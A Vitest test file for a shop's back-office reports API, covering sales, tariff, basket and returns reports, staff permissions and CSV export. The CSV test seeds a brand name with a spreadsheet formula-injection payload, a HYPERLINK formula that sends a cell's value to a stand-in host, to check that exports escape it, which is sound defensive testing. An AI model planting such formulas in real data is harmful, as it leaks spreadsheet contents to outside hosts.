import { addDays, tashkentDay } from '@bozor/shared';
import { beforeAll, describe, expect, it } from 'vitest';
import { ledgerEntries, orderItems, orders, returnRequests } from '../../../src/db/schema/index.ts';
import { useTestApp } from '../../helpers/app.ts';
import { createCustomerSession } from '../../helpers/auth.ts';
import {
  createBrand,
  createCategory,
  createProduct,
  createTariffs,
} from '../../helpers/factories.ts';
import { as, signedInStaff } from '../../helpers/staff.ts';

type Row = { key: string; label: string; values: Record<string, number> };

describe('the back-office reports', () => {
  const ctx = useTestApp();
  const now = new Date();
  const today = tashkentDay(now);
  const yesterday = addDays(today, -1);
  // noon in Tashkent, yesterday
  const yesterdayNoon = new Date(`${yesterday}T12:00:00+05:00`);
  let rootId: number;
  let brandId: number;

  beforeAll(async () => {
    const { customer } = await createCustomerSession(ctx.db);
    const tariffs = await createTariffs(ctx.db);
    const six = tariffs.find((t) => t.months === 6);
    const twelve = tariffs.find((t) => t.months === 12);
    const root = await createCategory(ctx.db, { nameUz: 'Texnika', nameRu: 'Техника' });
    const child = await createCategory(ctx.db, { parentId: root.id });
    const leaf = await createCategory(ctx.db, { parentId: child.id });
    const other = await createCategory(ctx.db, { nameUz: 'Kiyim', nameRu: 'Одежда' });
    rootId = root.id;
    const brand = await createBrand(ctx.db, { name: 'Artel' });
    brandId = brand.id;
    const tv = await createProduct(ctx.db, { categoryId: leaf.id, brandId: brand.id });
    const shirt = await createProduct(ctx.db, { categoryId: other.id });
    const base = { customerId: customer.id, deliveryUz: 'Toshkent', deliveryRu: 'Ташкент' };
    const placed = await ctx.db
      .insert(orders)
      .values([
        { ...base, status: 2, paymentType: 'full', total: 1_000_000, createdAt: now },
        {
          ...base,
          status: 2,
          paymentType: 'installment',
          tariffId: six!.id,
          total: 3_000_000,
          createdAt: now,
        },
        {
          ...base,
          status: 4,
          paymentType: 'installment',
          tariffId: twelve!.id,
          total: 2_000_000,
          createdAt: yesterdayNoon,
        },
        // cancelled: in no report
        { ...base, status: -2, paymentType: 'full', total: 9_000_000, createdAt: now },
      ])
      .returning({ id: orders.id });
    const [full, onSix, onTwelve, cancelled] = placed.map((o) => o.id) as [
      number,
      number,
      number,
      number,
    ];
    const line = { nameUz: 'x', nameRu: 'x', image: null };
    await ctx.db.insert(orderItems).values([
      { ...line, orderId: full, productId: shirt.id, price: 500_000, count: 2 },
      { ...line, orderId: onSix, productId: tv.id, price: 3_000_000, count: 1 },
      { ...line, orderId: onTwelve, productId: tv.id, price: 1_000_000, count: 2 },
      { ...line, orderId: cancelled, productId: tv.id, price: 9_000_000, count: 1 },
    ]);
    // the 12-month order was returned: asked yesterday, accepted today, 400 000 given back
    await ctx.db.insert(returnRequests).values({
      orderId: onTwelve,
      customerId: customer.id,
      status: 'accepted',
      requestedAt: yesterdayNoon,
      decidedAt: now,
    });
    await ctx.db.insert(ledgerEntries).values({
      customerId: customer.id,
      orderId: onTwelve,
      kind: 'refund',
      amount: 400_000,
    });
  });

  const report = async (kind: string, from = yesterday, to = today, lang = 'ru') => {
    const staff = await signedInStaff(ctx.app, ctx.db, 'content_manager');
    return ctx.app.inject({
      method: 'GET',
      url: `/api/admin/reports?kind=${kind}&from=${from}&to=${to}`,
      headers: { ...as(staff), lang },
    });
  };
  const rowsOf = async (kind: string, lang = 'ru') => {
    const res = await report(kind, yesterday, today, lang);
    expect(res.statusCode, res.body).toBe(200);
    return res.json().data as { rows: Row[]; totals: Record<string, number> };
  };

  it('sums sales by Tashkent day, every day of the range, without cancelled orders', async () => {
    const { rows, totals } = await rowsOf('sales_by_day');
    expect(rows).toEqual([
      { key: yesterday, label: yesterday, values: { orders: 1, units: 2, revenue: 2_000_000 } },
      { key: today, label: today, values: { orders: 2, units: 3, revenue: 4_000_000 } },
    ]);
    expect(totals).toEqual({ orders: 3, units: 5, revenue: 6_000_000 });
  });

  it('rolls goods up to their top category, and names brands, in the staff member’s language', async () => {
    const categories = await rowsOf('sales_by_category');
    expect(categories.rows[0]).toEqual({
      key: String(rootId),
      label: 'Техника',
      values: { orders: 2, units: 3, revenue: 5_000_000 },
    });
    expect(categories.rows[1]).toMatchObject({ label: 'Одежда', values: { revenue: 1_000_000 } });
    const brands = await rowsOf('sales_by_brand', 'uz');
    expect(brands.rows).toEqual([
      { key: String(brandId), label: 'Artel', values: { orders: 2, units: 3, revenue: 5_000_000 } },
      { key: 'none', label: 'Brendsiz', values: { orders: 1, units: 2, revenue: 1_000_000 } },
    ]);
  });

  it('shares orders between paying in full and each tariff', async () => {
    const { rows, totals } = await rowsOf('tariffs', 'uz');
    expect(rows.map((r) => [r.key, r.label, r.values.orders, r.values.share])).toEqual([
      ['full', "To'liq to'lov", 1, 0.3333],
      ['6', '6 oy', 1, 0.3333],
      ['12', '12 oy', 1, 0.3333],
    ]);
    expect(totals).toMatchObject({ orders: 3, revenue: 6_000_000, share: 1 });
  });

  it('works out the average basket by day and over the range', async () => {
    const { rows, totals } = await rowsOf('average_basket');
    expect(rows.map((r) => r.values.average)).toEqual([2_000_000, 2_000_000]);
    expect(totals).toEqual({ orders: 3, revenue: 6_000_000, average: 2_000_000 });
  });

  it('counts returns by the day asked and decided, and what was given back', async () => {
    const { rows, totals } = await rowsOf('returns');
    expect(rows).toEqual([
      {
        key: yesterday,
        label: yesterday,
        values: { requested: 1, accepted: 0, rejected: 0, refunded: 0 },
      },
      {
        key: today,
        label: today,
        values: { requested: 0, accepted: 1, rejected: 0, refunded: 400_000 },
      },
    ]);
    expect(totals).toEqual({ requested: 1, accepted: 1, rejected: 0, refunded: 400_000 });
  });

  it('refuses a range the wrong way round, longer than a year, or an unknown report', async () => {
    const backwards = await report('sales_by_day', today, yesterday);
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().errors.to[0]).toBe('Последний день не может быть раньше первого');
    const long = await report('sales_by_day', '2025-01-01', '2026-06-01');
    expect(long.statusCode).toBe(400);
    expect(long.json().errors.to[0]).toBe('Отчёт охватывает не больше года');
    expect((await report('profit')).statusCode).toBe(400);
  });

  it('is read by staff with the reports permission only', async () => {
    const creditOfficer = await signedInStaff(ctx.app, ctx.db, 'credit_officer');
    const res = await ctx.app.inject({
      method: 'GET',
      url: `/api/admin/reports?kind=sales_by_day&from=${today}&to=${today}`,
      headers: as(creditOfficer),
    });
    expect(res.statusCode).toBe(403);
  });
});

describe('GET /api/admin/reports.csv', () => {
  const ctx = useTestApp();
  const today = tashkentDay(new Date());
  const hostile = '=HYPERLINK("https://x.example/?d="&A2,"Open")';

  beforeAll(async () => {
    const { customer } = await createCustomerSession(ctx.db);
    const category = await createCategory(ctx.db, { nameUz: 'Texnika', nameRu: 'Техника' });
    const brand = await createBrand(ctx.db, { name: hostile });
    const other = await createBrand(ctx.db, { name: 'Phone;=1+2' });
    const tv = await createProduct(ctx.db, { categoryId: category.id, brandId: brand.id });
    const phone = await createProduct(ctx.db, { categoryId: category.id, brandId: other.id });
    const [order] = await ctx.db
      .insert(orders)
      .values({
        customerId: customer.id,
        deliveryUz: 'Toshkent',
        deliveryRu: 'Ташкент',
        status: 2,
        paymentType: 'full',
        total: 2_500_000,
      })
      .returning({ id: orders.id });
    const line = { orderId: order!.id, nameUz: 'x', nameRu: 'x', image: null };
    await ctx.db.insert(orderItems).values([
      { ...line, productId: tv.id, price: 2_000_000, count: 1 },
      { ...line, productId: phone.id, price: 500_000, count: 1 },
    ]);
  });

  const download = async (role: 'content_manager' | 'credit_officer', query: string) => {
    const staff = await signedInStaff(ctx.app, ctx.db, role);
    return ctx.app.inject({
      method: 'GET',
      url: `/api/admin/reports.csv?${query}`,
      headers: { ...as(staff), lang: 'ru' },
    });
  };

  it('answers the report as a file to save, each brand name guarded against formulas', async () => {
    const res = await download('content_manager', `kind=sales_by_brand&from=${today}&to=${today}`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="bozor-sales_by_brand-${today}-${today}.csv"`,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(res.body.split('\r\n')).toEqual([
      '\ufeffБренд,Заказы,Штук,"Выручка, сум"',
      `"'=HYPERLINK(""https://x.example/?d=""&A2,""Open"")",1,1,2000000`,
      `"Phone;'=1+2",1,1,500000`,
      'Итого,2,2,2500000',
      '',
    ]);
    // no piece of a line starts a formula, whether a program cuts it at commas or semicolons
    for (const line of res.body.split('\r\n')) {
      for (const piece of line.split(/[,;]/)) expect(piece).not.toMatch(/^[ "]*[=+\-@\t\r]/);
    }
  });

  it('heads the columns in the staff member’s language', async () => {
    const staff = await signedInStaff(ctx.app, ctx.db, 'content_manager');
    const res = await ctx.app.inject({
      method: 'GET',
      url: `/api/admin/reports.csv?kind=tariffs&from=${today}&to=${today}`,
      headers: { ...as(staff), lang: 'uz' },
    });
    expect(res.body.split('\r\n').slice(0, 2)).toEqual([
      '\ufeffTo\'lov,Buyurtmalar,"Tushum, so\'m",Buyurtmalar ulushi',
      "To'liq to'lov,1,2500000,1",
    ]);
  });

  it('is read by staff with the reports permission only, and refuses a wrong range', async () => {
    const query = `kind=sales_by_day&from=${today}&to=${today}`;
    expect((await download('credit_officer', query)).statusCode).toBe(403);
    const anonymous = await ctx.app.inject({ url: `/api/admin/reports.csv?${query}` });
    expect(anonymous.statusCode).toBe(401);
    const backwards = await download(
      'content_manager',
      `kind=sales_by_day&from=${today}&to=${addDays(today, -1)}`,
    );
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().errors.to[0]).toBe('Последний день не может быть раньше первого');
  });
});
